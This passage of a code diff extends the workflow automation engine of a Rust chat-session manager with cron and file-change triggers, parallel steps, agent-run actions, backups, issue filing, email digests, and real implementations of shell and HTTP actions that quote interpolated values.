@@ -8,11 +8,29 @@
 //! - Event-driven workflows
 //! - Conditional logic
 //! - Action chaining
-
+//! - Agent runs, saved as sessions
+
+pub mod actions;
+pub mod cron;
+pub mod history;
+pub mod parallel;
+pub mod schedule;
+pub mod templates;
+pub mod zoneinfo;
+
+use crate::backup;
+use crate::config::ChannelConfig;
+use crate::notifications::{self, Channel, Notification};
+use crate::storage::watcher::{
+    FileEvent, PathWatcher, SessionEvent, SessionEventKind, SessionWatcher,
+};
 use anyhow::{anyhow, Result};
 use chrono::{DateTime, Datelike, Duration, NaiveTime, Timelike, Utc, Weekday};
+use history::RunRetention;
+use parallel::{ParallelStep, StepResult, StepStatus};
 use serde::{Deserialize, Serialize};
 use std::collections::HashMap;
+use std::path::{Path, PathBuf};
 use std::sync::Arc;
 use tokio::sync::RwLock;
 
@@ -21,34 +39,84 @@ use tokio::sync::RwLock;
 // =============================================================================
 
 /// Workflow definition
+///
+/// Only `triggers` and `actions` are required, so workflows can be written
+/// by hand as `library/workflows/<name>.json`.
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Workflow {
-    /// Workflow ID
+    /// Workflow ID (default: the library file name)
+    #[serde(default)]
     pub id: String,
     /// Workflow name
+    #[serde(default)]
     pub name: String,
     /// Description
+    #[serde(default)]
     pub description: Option<String>,
     /// Whether workflow is enabled
+    #[serde(default = "default_enabled")]
     pub enabled: bool,
     /// Trigger conditions
     pub triggers: Vec<Trigger>,
     /// Conditions that must be met
+    #[serde(default)]
     pub conditions: Vec<Condition>,
     /// Actions to execute
     pub actions: Vec<Action>,
     /// Error handling strategy
+    #[serde(default)]
     pub on_error: ErrorStrategy,
     /// Created timestamp
+    #[serde(default)]
     pub created_at: DateTime<Utc>,
     /// Last modified timestamp
+    #[serde(default)]
     pub updated_at: DateTime<Utc>,
     /// Last executed timestamp
+    #[serde(default)]
     pub last_run: Option<DateTime<Utc>>,
     /// Execution count
+    #[serde(default)]
     pub run_count: u64,
 }
 
+fn default_enabled() -> bool {
+    true
+}
+
+impl Workflow {
+    /// Check the workflow can run: it has an ID, triggers, and actions, and
+    /// its schedules parse
+    pub fn validate(&self) -> Result<()> {
+        if self.id.is_empty() {
+            return Err(anyhow!("Workflow ID cannot be empty"));
+        }
+        if self.triggers.is_empty() {
+            return Err(anyhow!("Workflow must have at least one trigger"));
+        }
+        if self.actions.is_empty() {
+            return Err(anyhow!("Workflow must have at least one action"));
+        }
+        for trigger in &self.triggers {
+            if let Trigger::Schedule { cron, timezone } = trigger {
+                cron::CronSchedule::parse(cron)
+                    .and_then(|_| cron::ScheduleTimezone::parse(timezone.as_deref()))
+                    .map_err(|e| anyhow!("Workflow {}: {}", self.id, e))?;
+            }
+        }
+        parallel::validate(&self.actions).map_err(|e| anyhow!("Workflow {}: {}", self.id, e))?;
+        Ok(())
+    }
+
+    /// When the first of its timed triggers next fires after `after`
+    pub fn next_fire(&self, after: DateTime<Utc>) -> Option<DateTime<Utc>> {
+        self.triggers
+            .iter()
+            .filter_map(|t| t.next_fire(after))
+            .min()
+    }
+}
+
 // =============================================================================
 // Triggers
 // =============================================================================
@@ -66,9 +134,10 @@ pub enum Trigger {
     },
     /// Schedule-based trigger
     Schedule {
-        /// Cron expression
+        /// Cron expression, such as `0 9 * * mon-fri`
         cron: String,
-        /// Timezone
+        /// Timezone: `local`, `utc`, an offset, or a name such as
+        /// `Europe/Berlin` (None = display timezone)
         timezone: Option<String>,
     },
     /// Interval-based trigger
@@ -94,7 +163,9 @@ pub enum Trigger {
     },
     /// File change trigger
     FileChange {
-        /// Path pattern
+        /// Glob pattern. Relative patterns (`**/chatSessions/*.json`) match
+        /// session files; absolute ones, or ones starting with `~`, match
+        /// any file under their fixed leading directories
         pattern: String,
         /// Change types
         events: Vec<FileChangeEvent>,
@@ -111,6 +182,120 @@ pub enum FileChangeEvent {
     Renamed,
 }
 
+impl From<SessionEventKind> for FileChangeEvent {
+    fn from(kind: SessionEventKind) -> Self {
+        match kind {
+            SessionEventKind::Created => Self::Created,
+            SessionEventKind::Modified => Self::Modified,
+            SessionEventKind::Deleted => Self::Deleted,
+        }
+    }
+}
+
+impl Trigger {
+    /// When this trigger next fires after `after`, for triggers that fire on
+    /// their own. Times of day, and cron schedules that name no timezone,
+    /// are read in the display timezone.
+    pub fn next_fire(&self, after: DateTime<Utc>) -> Option<DateTime<Utc>> {
+        match self {
+            Trigger::Interval { seconds } if *seconds > 0 => {
+                Some(after + Duration::seconds(*seconds as i64))
+            }
+            Trigger::TimeOfDay { time, days } => {
+                let tz = crate::datetime::display_timezone();
+                let today = tz.date_of(after);
+                (0..=7)
+                    .filter_map(|offset| today.checked_add_signed(Duration::days(offset)))
+                    .filter(|date| {
+                        days.as_ref()
+                            .is_none_or(|days| days.contains(&date.weekday()))
+                    })
+                    .filter_map(|date| tz.resolve(date.and_time(*time)))
+                    .find(|at| *at > after)
+            }
+            Trigger::Schedule { cron, timezone } => {
+                let schedule = cron::CronSchedule::parse(cron).ok()?;
+                let tz = cron::ScheduleTimezone::parse(timezone.as_deref()).ok()?;
+                schedule.next_after(after, &tz)
+            }
+            _ => None,
+        }
+    }
+
+    /// Whether this trigger fires for a change to `path`.
+    /// An empty `events` list matches every change type.
+    pub fn matches_file_change(&self, path: &Path, change: FileChangeEvent) -> bool {
+        match self {
+            Trigger::FileChange { events, .. } => {
+                (events.is_empty() || events.contains(&change)) && self.matches_path(path)
+            }
+            _ => false,
+        }
+    }
+
+    /// Whether `path` matches this trigger's file pattern
+    pub fn matches_path(&self, path: &Path) -> bool {
+        match self {
+            Trigger::FileChange { pattern, .. } => glob::Pattern::new(&expand_pattern(pattern))
+                .map(|p| p.matches_path(path))
+                .unwrap_or(false),
+            _ => false,
+        }
+    }
+
+    /// For file-change triggers on paths outside the session store, the
+    /// directory to watch and whether to watch below it
+    pub fn watched_path(&self) -> Option<(PathBuf, bool)> {
+        let Trigger::FileChange { pattern, .. } = self else {
+            return None;
+        };
+        let pattern = PathBuf::from(expand_pattern(pattern));
+        if !pattern.is_absolute() {
+            return None;
+        }
+        let components: Vec<_> = pattern.components().collect();
+        let mut root = PathBuf::new();
+        for (i, component) in components.iter().enumerate() {
+            let part = component.as_os_str().to_string_lossy();
+            if part.contains(['*', '?', '[']) {
+                let recursive = part.contains("**") || i + 1 < components.len();
+                return Some((root, recursive));
+            }
+            root.push(component);
+        }
+        // A single file: watch its directory, since editors replace files
+        // rather than write them in place
+        root.parent().map(|dir| (dir.to_path_buf(), false))
+    }
+}
+
+/// A file pattern with a leading `~` expanded
+fn expand_pattern(pattern: &str) -> String {
+    if pattern == "~" || pattern.starts_with("~/") {
+        crate::config::expand_home(Path::new(pattern))
+            .to_string_lossy()
+            .into_owned()
+    } else {
+        pattern.to_string()
+    }
+}
+
+/// Directories to watch for the `FileChange` triggers of enabled workflows
+/// on paths outside the session store
+pub fn watched_paths(workflows: &[Workflow]) -> Vec<(PathBuf, bool)> {
+    let mut roots: std::collections::BTreeMap<PathBuf, bool> = Default::default();
+    for trigger in workflows
+        .iter()
+        .filter(|w| w.enabled)
+        .flat_map(|w| &w.triggers)
+    {
+        if let Some((root, recursive)) = trigger.watched_path() {
+            *roots.entry(root).or_default() |= recursive;
+        }
+    }
+    roots.into_iter().collect()
+}
+
 // =============================================================================
 // Conditions
 // =============================================================================
@@ -227,6 +412,41 @@ pub enum Action {
     Harvest {
         /// Provider to harvest from
         provider: Option<String>,
+        /// Commit the database to git with this message when the harvest
+        /// changed it (see `csm harvest git init`)
+        #[serde(default)]
+        commit: Option<String>,
+    },
+    /// Write an encrypted backup archive (see `csm backup run`)
+    Backup {
+        /// Destination (default: `backups.destination` in config)
+        #[serde(default)]
+        destination: Option<String>,
+    },
+    /// File the selected sessions as issues in Jira or Linear (see `csm
+    /// issue create`), skipping sessions already filed there
+    CreateIssue {
+        /// Session filter
+        filter: SessionFilter,
+        /// `jira` or `linear` (default: `issue_tracker` under `[integrations]`)
+        #[serde(default)]
+        tracker: Option<String>,
+        /// Jira project or Linear team key instead of the configured one
+        #[serde(default)]
+        project: Option<String>,
+        /// File the sessions' open TODOs and commitments, one issue each,
+        /// instead of the sessions
+        #[serde(default)]
+        action_items: bool,
+    },
+    /// Email an activity digest of the last days (see `csm report digest`)
+    SendDigest {
+        /// Recipients (default: `to` under `[integrations.smtp]`)
+        #[serde(default)]
+        to: Vec<String>,
+        /// Days the digest covers (default 7)
+        #[serde(default)]
+        days: Option<u32>,
     },
     /// Execute plugin
     Plugin {
@@ -253,6 +473,7 @@ pub enum Action {
         /// HTTP method
         method: String,
         /// Request headers
+        #[serde(default)]
         headers: HashMap<String, String>,
         /// Request body
         body: Option<String>,
@@ -264,6 +485,7 @@ pub enum Action {
         /// Working directory
         cwd: Option<String>,
         /// Environment variables
+        #[serde(default)]
         env: HashMap<String, String>,
     },
     /// Set variable
@@ -291,6 +513,12 @@ pub enum Action {
         /// Actions to execute for each item
         actions: Vec<Action>,
     },
+    /// Run actions concurrently, each once the steps it depends on have
+    /// finished (see [`parallel`])
+    Parallel {
+        /// Steps of the block
+        actions: Vec<ParallelStep>,
+    },
     /// Delay action
     Delay {
         /// Delay in seconds
@@ -303,6 +531,29 @@ pub enum Action {
         /// Message
         message: String,
     },
+    /// Run an Agency agent on a prompt. The reply is kept in the
+    /// `agent_response` variable, and the transcript saved as an `agency`
+    /// session unless `save` is false.
+    Agent {
+        /// Agent name (see `csm agency list`)
+        agent: String,
+        /// Prompt template
+        prompt: String,
+        /// Model to use instead of the agent's own
+        #[serde(default)]
+        model: Option<String>,
+        /// Save the transcript in the harvest database
+        #[serde(default = "default_save")]
+        save: bool,
+        /// Where to report a failed run (default: every channel that
+        /// subscribes to `automation.agent_failed`)
+        #[serde(default)]
+        notify: Option<NotificationChannel>,
+    },
+}
+
+fn default_save() -> bool {
+    true
 }
 
 /// Session filter for actions
@@ -312,6 +563,8 @@ pub struct SessionFilter {
     pub provider: Option<String>,
     /// Age filter (older than N days)
     pub older_than_days: Option<u32>,
+    /// Recency filter (updated within the last N days)
+    pub newer_than_days: Option<u32>,
     /// Tags filter
     pub tags: Option<Vec<String>>,
     /// Query filter
@@ -341,6 +594,30 @@ pub enum NotificationChannel {
     Discord { webhook_url: String },
     /// Generic webhook
     Webhook { url: String },
+    /// Channel configured under `[notifications.channels]`
+    Named { name: String },
+}
+
+impl NotificationChannel {
+    /// Resolve to a notification channel, building ad-hoc settings for inline variants
+    pub fn to_channel(&self) -> crate::error::Result<Channel> {
+        let (provider, key, value) = match self {
+            Self::Named { name } => return notifications::find_channel(name),
+            Self::System => ("system", None, None),
+            Self::Email { to } => ("email", Some("to"), Some(to)),
+            Self::Slack { webhook_url } => ("slack", Some("url"), Some(webhook_url)),
+            Self::Discord { webhook_url } => ("discord", Some("url"), Some(webhook_url)),
+            Self::Webhook { url } => ("webhook", Some("url"), Some(url)),
+        };
+        let mut config = ChannelConfig {
+            provider: provider.to_string(),
+            ..Default::default()
+        };
+        if let (Some(key), Some(value)) = (key, value) {
+            config.settings.insert(key.to_string(), value.clone());
+        }
+        Ok(Channel::new(provider, config))
+    }
 }
 
 /// Log level
@@ -354,10 +631,11 @@ pub enum LogLevel {
 }
 
 /// Error handling strategy
-#[derive(Debug, Clone, Serialize, Deserialize)]
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 #[serde(rename_all = "snake_case")]
 pub enum ErrorStrategy {
     /// Stop workflow on error
+    #[default]
     Stop,
     /// Continue to next action
     Continue,
@@ -392,13 +670,33 @@ pub struct ExecutionContext {
 }
 
 impl ExecutionContext {
+    /// A new run, with `{{today}}` and `{{yesterday}}` set to dates in the
+    /// display timezone, and each plain field of the trigger event as
+    /// `{{event.<field>}}`
     pub fn new(workflow_id: String, trigger_event: Option<serde_json::Value>) -> Self {
+        let started_at = Utc::now();
+        let today = crate::datetime::local_date(started_at);
+        let mut variables = HashMap::new();
+        variables.insert("today".to_string(), serde_json::json!(today.to_string()));
+        if let Some(yesterday) = today.pred_opt() {
+            variables.insert(
+                "yesterday".to_string(),
+                serde_json::json!(yesterday.to_string()),
+            );
+        }
+        if let Some(serde_json::Value::Object(fields)) = &trigger_event {
+            for (key, value) in fields {
+                if !value.is_object() && !value.is_array() {
+                    variables.insert(format!("event.{}", key), value.clone());
+                }
+            }
+        }
         Self {
             workflow_id,
             run_id: uuid::Uuid::new_v4().to_string(),
             trigger_event,
-            variables: HashMap::new(),
-            started_at: Utc::now(),
+            variables,
+            started_at,
             results: Vec::new(),
         }
     }
@@ -413,21 +711,66 @@ impl ExecutionContext {
         self.variables.insert(name, value);
     }
 
+    /// A session filter with its text fields interpolated
+    pub fn interpolate_filter(&self, filter: &SessionFilter) -> SessionFilter {
+        SessionFilter {
+            provider: filter.provider.as_deref().map(|p| self.interpolate(p)),
+            older_than_days: filter.older_than_days,
+            newer_than_days: filter.newer_than_days,
+            tags: filter
+                .tags
+                .as_ref()
+                .map(|tags| tags.iter().map(|t| self.interpolate(t)).collect()),
+            query: filter.query.as_deref().map(|q| self.interpolate(q)),
+        }
+    }
+
     /// Interpolate variables in a string
     pub fn interpolate(&self, template: &str) -> String {
         let mut result = template.to_string();
 
         for (key, value) in &self.variables {
             let placeholder = format!("{{{{{}}}}}", key);
-            let replacement = match value {
-                serde_json::Value::String(s) => s.clone(),
-                other => other.to_string(),
-            };
-            result = result.replace(&placeholder, &replacement);
+            result = result.replace(&placeholder, &variable_text(value));
         }
 
         result
     }
+
+    /// Interpolate variables into a shell command. Each value is shell-quoted
+    /// so it reaches the command as one argument, never as shell syntax, and
+    /// placeholders inside values are left alone.
+    pub fn interpolate_shell(&self, command: &str) -> Result<String> {
+        let mut result = String::with_capacity(command.len());
+        let mut rest = command;
+        while let Some(start) = rest.find("{{") {
+            result.push_str(&rest[..start]);
+            let after = &rest[start + 2..];
+            let value = after
+                .find("}}")
+                .and_then(|end| Some((end, self.variables.get(&after[..end])?)));
+            match value {
+                Some((end, value)) => {
+                    result.push_str(&actions::shell_quote(&variable_text(value))?);
+                    rest = &after[end + 2..];
+                }
+                None => {
+                    result.push_str("{{");
+                    rest = after;
+                }
+            }
+        }
+        result.push_str(rest);
+        Ok(result)
+    }
+}
+
+/// A variable as interpolated into text
+fn variable_text(value: &serde_json::Value) -> String {
+    match value {
+        serde_json::Value::String(s) => s.clone(),
+        other => other.to_string(),
+    }
 }
 
 /// Result of an action execution
@@ -490,6 +833,12 @@ pub struct AutomationEngine {
     runs: Arc<RwLock<Vec<WorkflowRun>>>,
     /// Max history size
     max_history: usize,
+    /// Where next-run times are kept across restarts
+    schedule_file: Option<PathBuf>,
+    /// Harvest database session actions work on (default: the configured one)
+    harvest_db: Option<PathBuf>,
+    /// Database workflows and runs are stored in, and how many runs it keeps
+    history: Option<(PathBuf, RunRetention)>,
 }
 
 impl AutomationEngine {
@@ -498,12 +847,57 @@ impl AutomationEngine {
             workflows: Arc::new(RwLock::new(HashMap::new())),
             runs: Arc::new(RwLock::new(Vec::new())),
             max_history,
+            schedule_file: None,
+            harvest_db: None,
+            history: None,
+        }
+    }
+
+    /// Keep next-run times in `path`, so runs that come due while the
+    /// scheduler is stopped happen when it starts again
+    pub fn with_schedule_file(mut self, path: PathBuf) -> Self {
+        self.schedule_file = Some(path);
+        self
+    }
+
+    /// Run session actions against the harvest database at `path`
+    pub fn with_harvest_db(mut self, path: PathBuf) -> Self {
+        self.harvest_db = Some(path);
+        self
+    }
+
+    /// Store registered workflows and their runs in the database at `path`,
+    /// pruning runs beyond `retention` as new ones finish
+    pub fn with_history_db(mut self, path: PathBuf, retention: RunRetention) -> Self {
+        self.history = Some((path, retention));
+        self
+    }
+
+    /// Apply `store` to the history database, if there is one. Failures are
+    /// logged rather than failing the run.
+    fn store_history(
+        &self,
+        store: impl FnOnce(&rusqlite::Connection, &RunRetention) -> Result<()>,
+    ) {
+        let Some((path, retention)) = &self.history else {
+            return;
+        };
+        if let Err(e) = history::open_history(path).and_then(|conn| store(&conn, retention)) {
+            log::warn!("Failed to store workflow history: {}", e);
+        }
+    }
+
+    fn harvest_db(&self) -> Result<PathBuf> {
+        match &self.harvest_db {
+            Some(path) => Ok(path.clone()),
+            None => Ok(crate::commands::get_db_path(None)?),
         }
     }
 
     /// Register a workflow
     pub async fn register(&self, workflow: Workflow) -> Result<()> {
-        self.validate_workflow(&workflow)?;
+        workflow.validate()?;
+        self.store_history(|conn, _| history::save_workflow(conn, &workflow));
         self.workflows
             .write()
             .await
@@ -511,20 +905,6 @@ impl AutomationEngine {
         Ok(())
     }
 
-    /// Validate workflow definition
-    fn validate_workflow(&self, workflow: &Workflow) -> Result<()> {
-        if workflow.id.is_empty() {
-            return Err(anyhow!("Workflow ID cannot be empty"));
-        }
-        if workflow.triggers.is_empty() {
-            return Err(anyhow!("Workflow must have at least one trigger"));
-        }
-        if workflow.actions.is_empty() {
-            return Err(anyhow!("Workflow must have at least one action"));
-        }
-        Ok(())
-    }
-
     /// Unregister a workflow
     pub async fn unregister(&self, workflow_id: &str) -> Result<()> {
         self.workflows
@@ -563,7 +943,138 @@ impl AutomationEngine {
             return Err(anyhow!("Workflow is disabled"));
         }
 
-        self.execute_workflow(&workflow, event).await
+        self.execute_workflow(&workflow, event, "manual").await
+    }
+
+    /// Run enabled workflows as their `Interval`, `TimeOfDay` and
+    /// `Schedule` triggers come due, until the task is dropped. Workflows
+    /// registered later are picked up within a minute. With a schedule file,
+    /// a run missed while stopped happens once on start.
+    pub async fn run_scheduled_triggers(&self) {
+        let mut state = match &self.schedule_file {
+            Some(path) => schedule::ScheduleState::load(path).unwrap_or_else(|e| {
+                log::warn!("Starting with an empty schedule: {}", e);
+                Default::default()
+            }),
+            None => Default::default(),
+        };
+        loop {
+            let now = Utc::now();
+            let workflows: Vec<Workflow> = self
+                .list_workflows()
+                .await
+                .into_iter()
+                .filter(|w| w.enabled)
+                .collect();
+            let before = state.clone();
+            state
+                .workflows
+                .retain(|id, _| workflows.iter().any(|w| w.id == *id));
+            let mut due = Vec::new();
+            for workflow in &workflows {
+                match state.saved_run(workflow) {
+                    Some(at) if at <= now => {
+                        state.set(workflow, workflow.next_fire(now), Some(now));
+                        due.push(workflow);
+                    }
+                    Some(_) => {}
+                    None => state.set(workflow, workflow.next_fire(now), None),
+                }
+            }
+            // Saved before running, so a crash mid-run does not repeat it
+            if state != before {
+                if let Some(path) = &self.schedule_file {
+                    if let Err(e) = state.save(path) {
+                        log::warn!("Failed to save schedule: {}", e);
+                    }
+                }
+            }
+            for workflow in due {
+                if let Err(e) = self.execute_workflow(workflow, None, "schedule").await {
+                    log::warn!("Scheduled workflow {} skipped: {}", workflow.id, e);
+                }
+            }
+
+            let wake = state
+                .workflows
+                .values()
+                .map(|run| run.next_run)
+                .min()
+                .map_or(Duration::minutes(1), |at| at - Utc::now())
+                .clamp(Duration::seconds(1), Duration::minutes(1));
+            tokio::time::sleep(wake.to_std().unwrap_or_default()).await;
+        }
+    }
+
+    /// Run every enabled workflow with a matching `FileChange` trigger on
+    /// session files. Returns one result (run ID or error) per workflow started.
+    pub async fn handle_session_event(&self, event: &SessionEvent) -> Vec<Result<String>> {
+        let payload = serde_json::to_value(event).ok();
+        self.handle_file_change(&event.path, event.kind.into(), payload, false)
+            .await
+    }
+
+    /// Run every enabled workflow with a matching `FileChange` trigger on
+    /// watched paths. Returns one result (run ID or error) per workflow started.
+    pub async fn handle_file_event(&self, event: &FileEvent) -> Vec<Result<String>> {
+        let payload = serde_json::to_value(event).ok();
+        self.handle_file_change(&event.path, event.kind.into(), payload, true)
+            .await
+    }
+
+    async fn handle_file_change(
+        &self,
+        path: &Path,
+        change: FileChangeEvent,
+        payload: Option<serde_json::Value>,
+        watched: bool,
+    ) -> Vec<Result<String>> {
+        let matching: Vec<Workflow> = self
+            .workflows
+            .read()
+            .await
+            .values()
+            .filter(|w| {
+                w.enabled
+                    && w.triggers.iter().any(|t| {
+                        t.watched_path().is_some() == watched && t.matches_file_change(path, change)
+                    })
+            })
+            .cloned()
+            .collect();
+
+        let mut results = Vec::with_capacity(matching.len());
+        for workflow in &matching {
+            results.push(
+                self.execute_workflow(workflow, payload.clone(), "file_change")
+                    .await,
+            );
+        }
+        results
+    }
+
+    /// Feed events from a session watcher into `FileChange` triggers until it stops
+    pub async fn run_file_triggers(&self, watcher: SessionWatcher) {
+        let mut rx = forward_events(watcher);
+        while let Some(event) = rx.recv().await {
+            for result in self.handle_session_event(&event).await {
+                if let Err(e) = result {
+                    log::debug!("File change workflow skipped: {}", e);
+                }
+            }
+        }
+    }
+
+    /// Feed events from a path watcher into `FileChange` triggers until it stops
+    pub async fn run_path_triggers(&self, watcher: PathWatcher) {
+        let mut rx = forward_events(watcher);
+        while let Some(event) = rx.recv().await {
+            for result in self.handle_file_event(&event).await {
+                if let Err(e) = result {
+                    log::debug!("File change workflow skipped: {}", e);
+                }
+            }
+        }
     }
 
     /// Execute a workflow
@@ -571,6 +1082,7 @@ impl AutomationEngine {
         &self,
         workflow: &Workflow,
         event: Option<serde_json::Value>,
+        trigger: &str,
     ) -> Result<String> {
         let mut ctx = ExecutionContext::new(workflow.id.clone(), event);
 
@@ -585,7 +1097,7 @@ impl AutomationEngine {
             id: ctx.run_id.clone(),
             workflow_id: workflow.id.clone(),
             status: RunStatus::Running,
-            trigger: "manual".to_string(),
+            trigger: trigger.to_string(),
             started_at: ctx.started_at,
             ended_at: None,
             results: Vec::new(),
@@ -828,29 +1340,32 @@ impl AutomationEngine {
                     format,
                     output,
                 } => {
-                    // Would call actual export logic
-                    log::info!(
-                        "Exporting sessions: filter={:?}, format={}, output={}",
-                        filter,
-                        format,
-                        output
-                    );
-                    Ok(Some(serde_json::json!({ "exported": true })))
+                    let (db, filter) = (self.harvest_db()?, ctx.interpolate_filter(filter));
+                    let (format, output) = (format.clone(), ctx.interpolate(output));
+                    let result = tokio::task::spawn_blocking(move || {
+                        actions::export_sessions(&db, &filter, &format, &output)
+                    })
+                    .await??;
+                    Ok(Some(result))
                 }
                 Action::Archive {
                     filter,
                     destination,
                 } => {
-                    log::info!(
-                        "Archiving sessions: filter={:?}, destination={}",
-                        filter,
-                        destination
-                    );
-                    Ok(Some(serde_json::json!({ "archived": true })))
+                    let (db, filter) = (self.harvest_db()?, ctx.interpolate_filter(filter));
+                    let destination = ctx.interpolate(destination);
+                    let result = tokio::task::spawn_blocking(move || {
+                        actions::archive_sessions(&db, &filter, &destination)
+                    })
+                    .await??;
+                    Ok(Some(result))
                 }
                 Action::Delete { filter } => {
-                    log::info!("Deleting sessions: filter={:?}", filter);
-                    Ok(Some(serde_json::json!({ "deleted": true })))
+                    let (db, filter) = (self.harvest_db()?, ctx.interpolate_filter(filter));
+                    let result =
+                        tokio::task::spawn_blocking(move || actions::delete_sessions(&db, &filter))
+                            .await??;
+                    Ok(Some(result))
                 }
                 Action::Tag {
                     filter,
@@ -869,16 +1384,63 @@ impl AutomationEngine {
                     provider,
                     direction,
                 } => {
-                    log::info!(
-                        "Syncing with provider {}: direction={:?}",
-                        provider,
-                        direction
-                    );
-                    Ok(Some(serde_json::json!({ "synced": true })))
+                    let provider = ctx.interpolate(provider);
+                    let result =
+                        actions::sync_sessions(&self.harvest_db()?, &provider, *direction).await?;
+                    Ok(Some(result))
                 }
-                Action::Harvest { provider } => {
-                    log::info!("Harvesting from provider: {:?}", provider);
-                    Ok(Some(serde_json::json!({ "harvested": true })))
+                Action::Harvest { provider, commit } => {
+                    let db = self.harvest_db()?;
+                    let provider = provider.as_deref().map(|p| ctx.interpolate(p));
+                    let commit = commit.as_deref().map(|m| ctx.interpolate(m));
+                    let result = tokio::task::spawn_blocking(move || {
+                        actions::harvest(&db, provider.as_deref(), commit.as_deref())
+                    })
+                    .await??;
+                    Ok(Some(result))
+                }
+                Action::Backup { destination } => {
+                    let destination = destination.as_deref().map(|d| ctx.interpolate(d));
+                    let report = tokio::task::spawn_blocking(move || {
+                        backup::create_archive(
+                            destination.as_deref(),
+                            &backup::archive::BackupSources::detect(),
+                        )
+                    })
+                    .await??;
+                    Ok(Some(serde_json::json!({
+                        "archive": report.name,
+                        "destination": report.destination,
+                        "files": report.manifest.entries.len(),
+                        "size": report.size,
+                    })))
+                }
+                Action::CreateIssue {
+                    filter,
+                    tracker,
+                    project,
+                    action_items,
+                } => {
+                    let filter = ctx.interpolate_filter(filter);
+                    let project = project.as_deref().map(|p| ctx.interpolate(p));
+                    let result = actions::create_issues(
+                        &self.harvest_db()?,
+                        &filter,
+                        tracker.as_deref(),
+                        project.as_deref(),
+                        *action_items,
+                    )
+                    .await?;
+                    Ok(Some(result))
+                }
+                Action::SendDigest { to, days } => {
+                    let db = self.harvest_db()?;
+                    let to: Vec<String> = to.iter().map(|t| ctx.interpolate(t)).collect();
+                    let days = days.unwrap_or(7);
+                    let result =
+                        tokio::task::spawn_blocking(move || actions::send_digest(&db, &to, days))
+                            .await??;
+                    Ok(Some(result))
                 }
                 Action::Plugin {
                     plugin_id,
@@ -899,30 +1461,52 @@ impl AutomationEngine {
                     title,
                 } => {
                     let msg = ctx.interpolate(message);
-                    log::info!(
-                        "Sending notification: channel={:?}, title={:?}, message={}",
-                        channel,
-                        title,
-                        msg
-                    );
-                    Ok(Some(serde_json::json!({ "notified": true })))
+                    let title = title
+                        .as_deref()
+                        .map(|t| ctx.interpolate(t))
+                        .unwrap_or_else(|| ctx.workflow_id.clone());
+                    let notification = Notification::new("automation.notify", title, msg)
+                        .with_field("workflow_id", ctx.workflow_id.clone())
+                        .with_field("run_id", ctx.run_id.clone());
+                    let channel = channel.to_channel()?;
+                    let name = channel.name.clone();
+
+                    // Providers use blocking HTTP and processes
+                    tokio::task::spawn_blocking(move || {
+                        notifications::registry().send(&channel, &notification)
+                    })
+                    .await??;
+                    Ok(Some(
+                        serde_json::json!({ "notified": true, "channel": name }),
+                    ))
                 }
                 Action::Http {
                     url,
                     method,
-                    headers: _,
-                    body: _,
+                    headers,
+                    body,
                 } => {
-                    let url = ctx.interpolate(url);
-                    log::info!("HTTP request: {} {}", method, url);
-                    // Would make actual HTTP request
-                    Ok(Some(serde_json::json!({ "status": 200 })))
+                    let headers = headers
+                        .iter()
+                        .map(|(name, value)| (name.clone(), ctx.interpolate(value)))
+                        .collect();
+                    let body = body.as_deref().map(|b| ctx.interpolate(b));
+                    let result =
+                        actions::http_request(method, &ctx.interpolate(url), &headers, body)
+                            .await?;
+                    ctx.set_var("http_response".to_string(), result["body"].clone());
+                    Ok(Some(result))
                 }
-                Action::Shell { command, cwd, env: _ } => {
-                    let cmd = ctx.interpolate(command);
-                    log::info!("Executing shell: {} (cwd={:?})", cmd, cwd);
-                    // Would execute actual command
-                    Ok(Some(serde_json::json!({ "exit_code": 0 })))
+                Action::Shell { command, cwd, env } => {
+                    let env = env
+                        .iter()
+                        .map(|(name, value)| (name.clone(), ctx.interpolate(value)))
+                        .collect();
+                    let cwd = cwd.as_deref().map(|c| ctx.interpolate(c));
+                    let command = ctx.interpolate_shell(command)?;
+                    let result = actions::shell(&command, cwd.as_deref(), &env).await?;
+                    ctx.set_var("shell_output".to_string(), result["stdout"].clone());
+                    Ok(Some(result))
                 }
                 Action::SetVariable { name, value } => {
                     ctx.set_var(name.clone(), value.clone());
@@ -961,6 +1545,7 @@ impl AutomationEngine {
                     }
                     Ok(None)
                 }
+                Action::Parallel { actions } => self.execute_parallel(actions, ctx).await,
                 Action::Delay { seconds } => {
                     tokio::time::sleep(tokio::time::Duration::from_secs(*seconds)).await;
                     Ok(None)
@@ -975,11 +1560,155 @@ impl AutomationEngine {
                     }
                     Ok(None)
                 }
+                Action::Agent {
+                    agent,
+                    prompt,
+                    model,
+                    save,
+                    notify,
+                } => {
+                    let prompt = ctx.interpolate(prompt);
+                    match run_agent(ctx, agent, &prompt, model.clone(), *save).await {
+                        Ok(run) => {
+                            ctx.set_var("agent_response".to_string(), run["response"].clone());
+                            Ok(Some(run))
+                        }
+                        Err(e) => {
+                            report_agent_failure(ctx, agent, &e, notify.as_ref()).await;
+                            Err(e)
+                        }
+                    }
+                }
             }
         })
     }
 
+    /// Run the steps of a `parallel` block, merging the variables each sets
+    /// into `ctx` as it finishes
+    async fn execute_parallel(
+        &self,
+        steps: &[ParallelStep],
+        ctx: &mut ExecutionContext,
+    ) -> Result<Option<serde_json::Value>> {
+        use futures_util::stream::{FuturesUnordered, StreamExt};
+
+        let deps = parallel::dependencies(steps)?;
+        let ids = parallel::step_ids(steps);
+        let mut results: Vec<Option<StepResult>> = vec![None; steps.len()];
+        let mut started = vec![false; steps.len()];
+        let mut running = FuturesUnordered::new();
+
+        loop {
+            let failed = results
+                .iter()
+                .flatten()
+                .any(|r| r.status == StepStatus::Failed);
+            for i in 0..steps.len() {
+                if started[i] || !deps[i].iter().all(|d| results[*d].is_some()) {
+                    continue;
+                }
+                started[i] = true;
+                if failed {
+                    results[i] = Some(StepResult {
+                        id: ids[i].clone(),
+                        status: StepStatus::Skipped,
+                        data: None,
+                        error: None,
+                        duration_ms: 0,
+                    });
+                } else {
+                    running.push(self.execute_step(i, ids[i].clone(), &steps[i], ctx.clone()));
+                }
+            }
+            // Skipping a step can leave others ready to be skipped
+            if running.is_empty() && started.iter().any(|s| !s) && failed {
+                continue;
+            }
+            match running.next().await {
+                Some((i, result, variables)) => {
+                    ctx.variables.extend(variables);
+                    results[i] = Some(result);
+                }
+                None => break,
+            }
+        }
+
+        let results: Vec<StepResult> = results.into_iter().flatten().collect();
+        if let Some(failed) = results.iter().find(|r| r.status == StepStatus::Failed) {
+            return Err(anyhow!(
+                "Step '{}' failed: {}",
+                failed.id,
+                failed.error.as_deref().unwrap_or("unknown error")
+            ));
+        }
